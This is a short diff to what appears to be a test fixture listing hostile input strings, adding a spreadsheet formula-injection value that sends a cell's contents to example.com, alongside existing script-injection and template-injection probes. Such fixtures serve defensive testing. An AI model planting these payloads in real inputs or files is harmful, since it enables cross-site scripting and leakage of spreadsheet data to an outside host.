@@ -28,6 +28,7 @@ HOSTILE = (
     "very long " * 200,
     "a | b *c* [d](https://example.com) `e` <img src=x onerror=alert(2)> &amp; {{ 7 * 7 }} $x$",
     "</script><script>alert(3)</script>",
+    '=HYPERLINK("https://example.com?"&A1,"a bus")',
     "line one\nline two\r\n# not a heading\n- not a list",
     "\"quoted\" 'single' \\ backslash \x1b[31mred",
 )
